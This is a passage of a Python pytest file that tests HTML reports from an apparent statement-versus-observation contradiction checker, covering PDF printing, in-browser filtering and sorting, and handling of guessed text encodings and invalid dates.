    lines = [f"{said.format(k)} {' '.join(seen.format(k, part) for part in range(3))}" for k in range(n)]
    article = read_text("\n".join(lines))
    sentences = list(enumerate(article.sentences))
    statements = [Statement(f"s{k // 4}", k, "claim", s.text, s.start, s.end, "owner", 0.9) for k, s in sentences if k % 4 == 0]
    observations = [Observation(f"o{k}", k, s.text, s.start, s.end, None, 0.9) for k, s in sentences if k % 4]
    names: tuple[CheckName, ...] = ("actor", "place", "time", "quantity")
    why = Explanation((), (), 0.1, tuple(Check(name, "unknown", "not both sides of the pair tell of it") for name in names))
    contrasts = tuple(Finding(f"s{o.sentence // 4}", o.id, "contradiction", 0.9, why) for o in observations)
    pairs = tuple(ScoredPair(f.statement, f.observation, RelationProbabilities(0.05, 0.05, 0.9)) for f in contrasts)
    return Report(
        article, tuple(statements), tuple(observations), contrasts, (), pairs, 0, ModelInfo("contrast-nli", "1", "0" * 64, "onnxruntime")
    )


@pytest.mark.skipif(BROWSER is None, reason="needs Chromium")
def test_a_printed_page_wastes_no_paper_and_tells_the_statement_of_each_evidence(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(as_html([of_statements(8)]), encoding="utf-8")
    browse(path.as_uri(), tmp_path, f"--print-to-pdf={tmp_path / 'page.pdf'}", "--no-pdf-header-footer")
    pages = [" ".join(page.extract_text().split()) for page in pypdf.PdfReader(tmp_path / "page.pdf").pages]
    assert len(pages) <= MAX_PAGES
    for k in range(8):
        assert sum(page.count(f"S{k}: contradiction 0.90") for page in pages) == 2
    assert sum(page.count("not both sides of the pair tell of it") for page in pages) == 8 * 3 * 4


@pytest.mark.skipif(BROWSER is None, reason="needs Chromium")
def test_a_link_to_a_card_that_the_filters_hide_shows_it(tmp_path: Path) -> None:
    act = """
    const shown = () => document.getElementById("shown").textContent;
    const none = () => [...document.querySelectorAll(".none-fits")].map((line) => !line.hidden && line.textContent);
    const seen = {before: none()};
    set("filter-verdict", "supported");
    seen.filtered = shown(); seen.none = none(); seen.isHidden = document.getElementById("a1-s1").hidden;
    document.getElementById("a1-s1-text").click();
    seen.told = shown(); seen.isShown = !document.getElementById("a1-s1").hidden; seen.after = none();
    set("filter-verdict", "open");
    document.getElementById("a1-o1-text").click();
    seen.kept = shown();
    """
    seen = acted(as_html([of_statements(2)]), act, tmp_path)
    assert (seen["before"], seen["after"]) == ([False], [False])
    assert (seen["filtered"], seen["isHidden"]) == ("Filtered: 0 of 2 statements shown", True)
    assert seen["none"] == ["No statement fits these filters."]
    assert (seen["told"], seen["isShown"]) == ("2 statements; the filters were cleared to show S1", True)
    assert seen["kept"] == "2 statements"


@pytest.mark.skipif(BROWSER is None, reason="needs Chromium")
def test_filters_and_sorting_work_in_a_browser(two: list[Report], tmp_path: Path) -> None:
    act = """
    const seen = {all: document.querySelectorAll(".card:not([hidden])").length, form: !document.getElementById("filters").hidden};
    set("filter-probability", "0.8");
    seen.strong = [...document.querySelectorAll(".evidence > li:not([hidden])")].map((li) => Number(li.dataset.probability));
    set("filter-probability", "0"); set("filter-verdict", "open");
    seen.open = [...document.querySelectorAll(".card:not([hidden])")].map((card) => card.dataset.verdict);
    seen.told = document.getElementById("shown").textContent;
    const names = () => [...document.querySelectorAll("#overview tbody tr")].map((row) => row.dataset.article);
    const heads = [...document.querySelectorAll("#overview thead th")];
    heads[1].firstChild.click(); seen.down = names(); heads[1].firstChild.click(); seen.up = names(); seen.sort = heads[1].ariaSort;
    """
    seen = acted(as_html(two), act, tmp_path)
    n_open = sum(s.verdict == "open" for shown in two for s in shown.statements)
    n_all = sum(len(shown.statements) for shown in two)
    assert (seen["all"], seen["form"]) == (n_all, True)
    expected = [f.probability for shown in two for f in (*shown.contrasts, *shown.supports) if f.probability >= 0.8]
    assert sorted(seen["strong"]) == pytest.approx(sorted(expected), abs=1e-6)
    assert seen["open"] == ["open"] * n_open
    assert seen["told"] == f"Filtered: {n_open} of {n_all} statements shown"
    assert (seen["down"], seen["up"], seen["sort"]) == (["a1", "a2"], ["a2", "a1"], "ascending")


def test_a_report_of_a_text_whose_encoding_was_guessed_or_whose_date_cannot_be_holds_without_its_source(tmp_path: Path) -> None:
    texts = {
        "guessed": "The mill at Łódź will stay open, Ada Holm promised.\nOn Friday the gates at Łódź were chained.\n".encode("cp1250"),
        "no-date": b"Mill to stay open\n20240231\nThe mill will stay open, Ada Holm promised.\nOn Friday the gates were chained.\n",
    }
    for name, content in texts.items():
        source, page = tmp_path / f"{name}.txt", tmp_path / f"{name}.html"
        source.write_bytes(content)
        report = read_article(source)
        assert len(report.warnings) == 1
        assert contrast("check", source, "--format", "html", "--no-explain", "-o", page).returncode == 0
        source.unlink()
        done = contrast("verify", page)
        assert (done.returncode, "DIFFERS" in done.stdout) == (0, False), done.stdout
